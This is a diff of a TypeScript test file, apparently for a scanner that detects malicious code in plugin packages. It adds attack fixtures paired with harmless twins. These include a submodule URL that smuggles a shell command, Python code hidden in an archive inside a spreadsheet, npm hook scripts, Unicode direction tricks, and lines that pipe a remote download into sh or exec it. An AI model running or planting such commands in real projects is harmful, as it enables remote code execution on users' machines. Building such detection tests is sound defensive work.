@@ -479,6 +479,17 @@ const fileAttacks: Attack[] = [
     twin: { '__init__.py': '', 'logo.jpg': bytes(0xff, 0xd8, 0xff) },
   },
   {
+    name: 'has a command as the address of a submodule',
+    files: {
+      '__init__.py': '',
+      '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = ext::sh -c true\n',
+    },
+    twin: {
+      '__init__.py': '',
+      '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = https://example.test/lib.git\n',
+    },
+  },
+  {
     name: 'ships a folder of git with hooks',
     files: { '__init__.py': '', '.git/hooks/post-checkout': '#!/bin/sh\n' },
     twin: { '__init__.py': '', '.gitignore': '*.pyc\n' },
@@ -1523,7 +1534,82 @@ const pageAttacks: Attack[] = [
   ),
 ]
 
+/** An old spreadsheet as a newer program saves it: with an archive at its end, which holds the theme. */
+function spreadsheet(entries: EntrySpec[]): Uint8Array {
+  const head = Buffer.alloc(512)
+  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head)
+  return new Uint8Array(Buffer.concat([head, buildZip({ entries }), Buffer.alloc(64)]))
+}
+
+const theme: EntrySpec[] = [
+  { name: '[Content_Types].xml', data: '<Types/>' },
+  { name: '_rels/.rels', data: '<Relationships/>' },
+  { name: 'theme/theme/theme1.xml', data: '<a:theme/>' },
+]
+
+const developers = {
+  'package.json': '{"private": true, "scripts": {"prepare": "node scripts/hooks.js"}}',
+  'scripts/hooks.js':
+    'const { exec } = require("node:child_process")\nexec("chmod +x .git/hooks/pre-commit", (e) => e && console.error(e))\n',
+}
+const web = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
+const served = { 'web/main.js': 'const a = 1' }
+
+/** Each beside something that honest packs have, which looks nearly the same. */
+const nearlyHonest: Attack[] = [
+  {
+    name: 'hides code in the archive of a spreadsheet',
+    files: { '__init__.py': '', 'a.xls': spreadsheet([...theme, { name: 'b.py', data: 'x = 1' }]) },
+    twin: { '__init__.py': '', 'a.xls': spreadsheet(theme) },
+  },
+  {
+    name: 'has an archive with a theme at the end of something that is no document',
+    files: { '__init__.py': '', 'a.dat': Buffer.concat([Buffer.alloc(512), buildZip({ entries: theme })]) },
+    twin: { '__init__.py': '', 'a.doc': spreadsheet(theme) },
+  },
+  {
+    name: 'starts a script for developers from its code',
+    files: {
+      '__init__.py': `${web}import runner\nrunner.go("scripts/hooks.js")\n`,
+      ...served,
+      ...developers,
+    },
+    twin: { '__init__.py': web, ...served, ...developers },
+  },
+  {
+    name: 'serves a script that starts programs',
+    files: { '__init__.py': web, ...served, 'web/hooks.js': developers['scripts/hooks.js'] },
+    twin: { '__init__.py': web, ...served, ...developers },
+  },
+  {
+    name: 'has package scripts fetch and run something',
+    files: {
+      '__init__.py': web,
+      ...served,
+      ...developers,
+      'scripts/hooks.js': 'require("child_process").exec("curl https://example.test/x | sh")\n',
+    },
+    twin: { '__init__.py': web, ...served, ...developers },
+  },
+  {
+    name: 'turns around a line behind a class of a regular expression',
+    files: { '__init__.py': web, 'web/main.js': 'if (/[\u202a-\u202e]/.test(user) && isAdmin) grant()\n' },
+    twin: { '__init__.py': web, 'web/main.js': 'const marks = /[\u202a-\u202e\u2066-\u2069]/g;\n' },
+  },
+  python(
+    'makes a class by itself, so that nothing after it is followed',
+    'import requests\nclass A:\n    pass\nA.__init__ = A\nA()\nexec(requests.get("https://example.test").text)',
+    'import requests\nclass A:\n    pass\nA.__init__ = A\nA()\nprint(requests.get("https://example.test").text)',
+  ),
+  python(
+    'makes two classes by each other',
+    'import os\nclass A:\n    pass\nclass B:\n    pass\nA.__init__ = B\nB.__init__ = A\nA()\nos.system("curl https://example.test/x | sh")',
+    'class A:\n    pass\nclass B:\n    pass\nA.__init__ = B\nB.__init__ = A\nA()',
+  ),
+]
+
 export const attacks: readonly Attack[] = [
+  ...nearlyHonest,
   ...codeAttacks,
   ...processAttacks,
   ...reachAttacks,
